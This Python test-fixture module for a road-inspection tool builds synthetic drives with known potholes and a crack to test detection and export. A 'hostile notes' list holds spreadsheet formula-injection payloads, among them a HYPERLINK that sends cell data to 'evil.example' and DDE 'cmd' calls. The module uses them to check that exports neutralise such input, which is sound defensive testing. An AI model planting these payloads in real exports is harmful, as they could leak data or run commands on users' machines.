"""Synthetic road scenes with known answers for the findings/sites/sections/export tests.

Damage is drawn on the ROAD (metres, X right, Y forward) and projected into the image with the
same flat-road camera the extraction uses, so metric measures have a known true value.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
from skimage.draw import polygon as draw_polygon

from roadinspect.core.geo import CameraModel, offset_position
from roadinspect.core.segmenter import Segmentation
from roadinspect.core.types import CameraInfo, GeoPoint, Photo

IMAGE_W, IMAGE_H = 1024, 768
WORK_W, WORK_H = 512, 384
CAMERA = CameraModel(height_m=1.5, pitch_deg=20.0, hfov_deg=70.0)
ORIGIN = GeoPoint(lat=45.0, lon=5.0)
T0 = datetime(2025, 5, 12, 8, 0, 0, tzinfo=UTC)


def segmentation(mask: np.ndarray, image_size: tuple[int, int] = (IMAGE_W, IMAGE_H),
                 p: float = 0.9) -> Segmentation:
    """A segmentation whose probability is ``p`` for the mask's class, the rest shared."""
    h, w = mask.shape
    probs = np.full((3, h, w), (1.0 - p) / 2.0, dtype=np.float32)
    for k in range(3):
        probs[k][mask == k] = p
    return Segmentation(mask, probs, image_size)


def draw_ground(mask: np.ndarray, corners_m: list[tuple[float, float]], value: int,
                camera: CameraModel = CAMERA, image_size: tuple[int, int] = (IMAGE_W, IMAGE_H)) -> None:
    """Fill the road polygon ``corners_m`` ((X, Y) metres) with ``value`` in a working-resolution mask."""
    h, w = mask.shape
    u, v = camera.image_uv(np.array([c[0] for c in corners_m]), np.array([c[1] for c in corners_m]), *image_size)
    cols = u * w / image_size[0] - 0.5
    rows = v * h / image_size[1] - 0.5
    rr, cc = draw_polygon(rows, cols, shape=mask.shape)
    mask[rr, cc] = value


def rect(x0: float, y0: float, x1: float, y1: float) -> list[tuple[float, float]]:
    """Corners of a road rectangle."""
    return [(x0, y0), (x1, y0), (x1, y1), (x0, y1)]


def blank() -> np.ndarray:
    """An empty working-resolution mask."""
    return np.zeros((WORK_H, WORK_W), dtype=np.uint8)


def photo(index: int = 0, position: GeoPoint | None = ORIGIN, heading: float | None = 0.0,
          name: str | None = None, focal_35mm: float | None = None) -> Photo:
    """Photo number ``index`` of a drive (times 1 s apart)."""
    return Photo(
        path=Path(f"/survey/{name or f'IMG_{index:04d}.jpg'}"), sha256=f"{index:064x}", size_bytes=1000 + index,
        width=IMAGE_W, height=IMAGE_H, position=position, heading_deg=heading,
        taken_at=T0 + timedelta(seconds=index), camera=CameraInfo(focal_length_35mm=focal_35mm),
    )


def drive(n: int, step_m: float, heading: float = 0.0, start: GeoPoint = ORIGIN) -> list[Photo]:
    """``n`` photos ``step_m`` apart along ``heading``."""
    return [photo(i, offset_position(start, heading, 0.0, i * step_m), heading) for i in range(n)]


def render(ph: Photo, objects: list[tuple[int, list[tuple[float, float]]]], camera: CameraModel = CAMERA,
           base: GeoPoint = ORIGIN) -> np.ndarray:
    """Working-resolution mask of ``ph`` seeing ``objects``: (class value, corners in metres east/north of ``base``)."""
    from roadinspect.core.geo import MetricFrame

    frame = MetricFrame(base)
    pe, pn = frame.to_xy([ph.position])[0]
    h = np.radians(ph.heading_deg or 0.0)
    mask = blank()
    for value, corners in objects:
        road = []
        for e, n in corners:
            de, dn = e - pe, n - pn
            road.append((de * np.cos(h) - dn * np.sin(h), de * np.sin(h) + dn * np.cos(h)))
        if min(y for _, y in road) < 2.0 or max(y for _, y in road) > 28.0:
            continue  # out of view
        draw_ground(mask, road, value, camera)
    return mask


def survey(n: int, step_m: float, objects: list[tuple[int, list[tuple[float, float]]]], heading: float = 0.0,
           start: GeoPoint = ORIGIN, first_photo_id: int = 1, first_finding_id: int = 1,
           ) -> tuple[dict[int, Photo], list]:
    """Photos of a drive and their extracted findings, with store-like ids."""

    from roadinspect.core.findings import extract_findings

    photos = {first_photo_id + i: p for i, p in enumerate(drive(n, step_m, heading, start))}
    findings = []
    for pid, ph in photos.items():
        for f in extract_findings(segmentation(render(ph, objects, base=start)), ph, CAMERA):
            findings.append(replace(f, id=first_finding_id + len(findings), photo_id=pid))
    return photos, findings


def along(heading: float, corners: list[tuple[float, float]]) -> list[tuple[float, float]]:
    """Road corners (across, along a drive heading ``heading``) as metres east/north."""
    h = np.radians(heading)
    return [(x * np.cos(h) + y * np.sin(h), -x * np.sin(h) + y * np.cos(h)) for x, y in corners]


HOSTILE_NOTES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    'Chaussée déformée; "très" abîmée, à reprendre',
    "\tTabulation puis texte",
)
NANTES = GeoPoint(lat=47.2, lon=-1.55)
"""West of Greenwich: negative longitudes must stay numbers in exports."""


EXPORT_HEADING = 30.0
EXPORT_PHOTOS, EXPORT_STEP_M = 16, 4.0


def _export_objects() -> list[tuple[int, list[tuple[float, float]]]]:
    """The damage of the export scene: (class value, road rectangle (across, along the drive) in metres)."""
    objects = [(2, rect(-0.3 + 0.15 * k, 9.0 + 9.0 * k, 0.3 + 0.25 * k, 9.6 + 9.1 * k)) for k in range(6)]
    objects.append((1, rect(0.9, 12.0, 0.96, 17.0)))
    return objects


@dataclass(frozen=True)
class TrueDamage:
    """One damage of the export scene as drawn: its kind, its centre on the ground and its true size."""

    kind: str
    position: GeoPoint
    area_m2: float = 0.0
    length_m: float = 0.0
    width_m: float = 0.0
    rejected: bool = False


def export_truth() -> list[TrueDamage]:
    """What ``export_scene`` drew, independent of the extraction, sites and priority code.

    The six potholes are squares 0.6 to 1.1 m wide, 9 m apart; the crack is 5 m long and 6 cm wide,
    beside the second pothole. The scene rejects its last site, the farthest pothole.
    """
    truth = []
    for value, corners in _export_objects():
        xs, ys = [c[0] for c in corners], [c[1] for c in corners]
        centre = offset_position(NANTES, EXPORT_HEADING, (min(xs) + max(xs)) / 2, (min(ys) + max(ys)) / 2)
        w, length = max(xs) - min(xs), max(ys) - min(ys)
        if value == 2:
            truth.append(TrueDamage("pothole", centre, area_m2=w * length))
        else:
            truth.append(TrueDamage("longitudinal", centre, length_m=length, width_m=w))
    truth[5] = replace(truth[5], rejected=True)
    return truth


def export_track_end() -> GeoPoint:
    """Position of the last photo of the export scene's drive."""
    return offset_position(NANTES, EXPORT_HEADING, 0.0, (EXPORT_PHOTOS - 1) * EXPORT_STEP_M)


def export_scene(folder: Path | None = None):
    """A project of a 60 m drive near Nantes with six potholes and a crack, reviewed with hostile notes.

    Returns ``ProjectData``. When ``folder`` is given, every photo is written there as a small JPEG
    (so the report can crop it) and one photo is named with a leading ``=``.
    """

    from PIL import Image

    from roadinspect.core.maintenance import ProjectData
    from roadinspect.core.sites import build_sites
    from roadinspect.core.types import Review, ReviewStatus

    heading = EXPORT_HEADING
    objects = [(value, along(heading, corners)) for value, corners in _export_objects()]
    photos, findings = survey(EXPORT_PHOTOS, EXPORT_STEP_M, objects, heading=heading, start=NANTES)
    if folder is not None:
        rng = np.random.default_rng(0)
        pixels = (rng.random((IMAGE_H // 8, IMAGE_W // 8, 3)) * 255).astype(np.uint8)
        image = Image.fromarray(pixels).resize((IMAGE_W, IMAGE_H))
        for pid, ph in list(photos.items()):
            name = "=IMG 'é' 0003.jpg" if pid == 4 else ph.path.name
            path = folder / name
            image.save(path, quality=70)
            photos[pid] = replace(ph, path=path)
    sites = build_sites(photos, findings)
    reviews = {}
    for site, note in zip(sites, HOSTILE_NOTES, strict=False):
        fid = site.finding_ids[0]
        reviews[fid] = Review(fid, ReviewStatus.ACCEPTED, reviewer="Zoé", note=note)
    rejected = sites[-1].finding_ids
    for fid in rejected:
        reviews[fid] = Review(fid, ReviewStatus.REJECTED, reviewer="Zoé")
    return ProjectData(photos=photos, findings=findings, reviews=reviews, name="Tournée d'essai")
